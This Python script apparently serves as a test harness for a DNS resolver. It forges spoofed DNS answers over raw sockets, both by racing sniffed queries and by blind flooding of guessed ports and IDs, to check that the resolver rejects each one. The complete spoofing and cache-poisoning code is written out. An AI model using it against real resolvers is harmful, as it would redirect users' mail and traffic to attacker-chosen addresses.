#!/usr/bin/env python3
"""dns-forger.py - forged DNS answers for mx-check's forgery test (raw sockets: run as root).

Node.js has no raw sockets, so the attacker is written here, with Python's standard library only.
Every forged answer lies: MX 10 localhost. for an MX question, 10.66.6.6 for A, fd66::6 for AAAA.
Each sends IPv4/UDP datagrams built by hand with a spoofed source address and port, through a
raw socket, to the resolver's client - nowhere else (the test runs it in its own namespaces).

  race  --iface IF --server IP:PORT [--alt-ip IP] [--case]
        Watches the client's queries leave through IF (as an attacker on the path would; stronger
        than off-path) and races the real answer with forgeries that are right in all but one
        respect: from another port of the server, from another address, with another ID, for
        another name, for another type, truncated, garbage, and (with --case) the name in the other
        case. A resolver that skipped one check would believe that forgery.
  blind --server IP:PORT --client IP --ports LO-HI --names FILE [--rate N]
        An off-path attacker: exact server address and port, but a guessed destination port and
        guessed ID, for a question from FILE (one name per line; names starting "mx." are asked for
        A and AAAA, the others for MX), as fast as --rate allows.

Both print "ready" once their sockets are open, run until SIGTERM or SIGINT, then print one JSON
object with what they sent and exit 0.
"""
import argparse
import json
import random
import signal
import socket
import struct
import sys
import time

PACKET_OUTGOING = 4
ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
TYPES = {'A': 1, 'MX': 15, 'AAAA': 28}


class Stop(Exception):
    pass


def on_signal(_signum, _frame):
    raise Stop()


def ip_port(text):
    host, _, port = text.rpartition(':')
    return socket.inet_aton(host), int(port)


def encode_name(name):
    out = b''
    for label in name.rstrip('.').split('.'):
        raw = label.encode('ascii')
        out += bytes([len(raw)]) + raw
    return out + b'\x00'


def read_question(dns):
    """(id, question name in wire form as sent, its type, the offset after the question) or None."""
    if len(dns) < 12 or struct.unpack('!H', dns[4:6])[0] != 1:
        return None
    i = 12
    while i < len(dns) and dns[i] != 0:
        if dns[i] & 0xC0:
            return None
        i += 1 + dns[i]
    if i + 5 > len(dns):
        return None
    qtype = struct.unpack('!H', dns[i + 1:i + 3])[0]
    return struct.unpack('!H', dns[0:2])[0], dns[12:i + 1], qtype, i + 5


def lie_rdata(qtype):
    if qtype == TYPES['MX']:
        return struct.pack('!H', 10) + encode_name('localhost')
    if qtype == TYPES['AAAA']:
        return socket.inet_pton(socket.AF_INET6, 'fd66::6')
    return socket.inet_aton('10.66.6.6')


def forged_answer(qid, qname_wire, qtype, answer_type=None):
    """A complete authoritative answer to (qname, qtype) that lies."""
    rtype = answer_type or qtype
    header = struct.pack('!HHHHHH', qid, 0x8400, 1, 1, 0, 0)
    question = qname_wire + struct.pack('!HH', qtype, 1)
    rdata = lie_rdata(rtype if rtype in TYPES.values() else TYPES['A'])
    answer = b'\xc0\x0c' + struct.pack('!HHIH', rtype, 1, 300, len(rdata)) + rdata
    return header + question + answer


def ip_udp(src, sport, dst, dport, payload):
    """IPv4 + UDP around payload; the kernel fills in the IP checksum, the UDP checksum is 0 (none)."""
    udp = struct.pack('!HHHH', sport, dport, 8 + len(payload), 0) + payload
    return struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0x4000, 64, 17, 0, src, dst) + udp


def swap_case(wire):
    return bytes(b ^ 0x20 if (0x41 <= b <= 0x5A or 0x61 <= b <= 0x7A) else b for b in wire)


def race(args, raw, sent):
    server_ip, server_port = ip_port(args.server)
    alt_ip = socket.inet_aton(args.alt_ip) if args.alt_ip else None
    # outgoing packets reach only ETH_P_ALL taps, not sockets bound to one protocol
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    sniff.bind((args.iface, ETH_P_ALL))
    print('ready', flush=True)
    while True:
        data, addr = sniff.recvfrom(65535)
        if addr[1] != ETH_P_IP or addr[2] != PACKET_OUTGOING or len(data) < 28 or data[9] != 17 or data[16:20] != server_ip:
            continue
        ihl = (data[0] & 0x0F) * 4
        sport, dport = struct.unpack('!HH', data[ihl:ihl + 4])
        if dport != server_port:
            continue
        q = read_question(data[ihl + 8:])
        if q is None:
            continue
        qid, qname, qtype, _ = q
        client = data[12:16]
        dst = socket.inet_ntoa(client)
        lie = forged_answer(qid, qname, qtype)
        variants = [
            ('wrongPort', server_ip, server_port + 1 if server_port < 65535 else server_port - 1, lie),
            ('wrongId', server_ip, server_port, forged_answer(qid ^ 0x5A5A, qname, qtype)),
            ('wrongName', server_ip, server_port, forged_answer(qid, encode_name('forged')[:-1] + qname, qtype)),
            ('wrongType', server_ip, server_port, forged_answer(qid, qname, TYPES['A'] if qtype != TYPES['A'] else TYPES['AAAA'])),
            ('truncated', server_ip, server_port, lie[:len(lie) - 3]),
            ('garbage', server_ip, server_port, lie[:2] + bytes(random.getrandbits(8) for _ in range(24))),
        ]
        if alt_ip:
            variants.append(('wrongAddress', alt_ip, server_port, lie))
        if args.case and swap_case(qname) != qname:
            variants.append(('wrongCase', server_ip, server_port, forged_answer(qid, swap_case(qname), qtype)))
        for name, src, src_port, payload in variants:
            raw.sendto(ip_udp(src, src_port, client, sport, payload), (dst, 0))
            sent[name] = sent.get(name, 0) + 1


def blind(args, raw, sent):
    server_ip, server_port = ip_port(args.server)
    client = socket.inet_aton(args.client)
    lo, hi = (int(p) for p in args.ports.split('-'))
    templates = []
    with open(args.names, encoding='ascii') as f:
        for line in f:
            name = line.strip()
            if not name:
                continue
            for qtype in (['A', 'AAAA'] if name.startswith('mx.') else ['MX']):
                templates.append(bytearray(ip_udp(server_ip, server_port, client, 0, forged_answer(0, encode_name(name), TYPES[qtype]))))
    rng = random.Random()
    print('ready', flush=True)
    batch = 500
    started = time.monotonic()
    count = 0
    while True:
        for _ in range(batch):
            pkt = rng.choice(templates)
            struct.pack_into('!H', pkt, 22, rng.randint(lo, hi))  # UDP destination port
            struct.pack_into('!H', pkt, 28, rng.getrandbits(16))  # DNS ID
            raw.sendto(pkt, (args.client, 0))
        count += batch
        sent['blind'] = count
        ahead = count / args.rate - (time.monotonic() - started)
        if ahead > 0:
            time.sleep(ahead)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument('mode', choices=['race', 'blind'])
    parser.add_argument('--server', required=True, help='IP:PORT of the real server (the forged source)')
    parser.add_argument('--iface', help='race: interface the queries leave through')
    parser.add_argument('--alt-ip', help='race: another local address to forge from, with the server\'s port')
    parser.add_argument('--case', action='store_true', help='race: also the question name in the other case (0x20)')
    parser.add_argument('--client', help='blind: the resolver client\'s address')
    parser.add_argument('--ports', default='32768-60999', help='blind: destination ports to guess from')
    parser.add_argument('--names', help='blind: file of question names')
    parser.add_argument('--rate', type=float, default=50000, help='blind: datagrams per second at most')
    args = parser.parse_args()
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = {}
    try:
        if args.mode == 'race':
            race(args, raw, sent)
        else:
            blind(args, raw, sent)
    except Stop:
        pass
    print(json.dumps(sent), flush=True)
    return 0


if __name__ == '__main__':
    sys.exit(main())
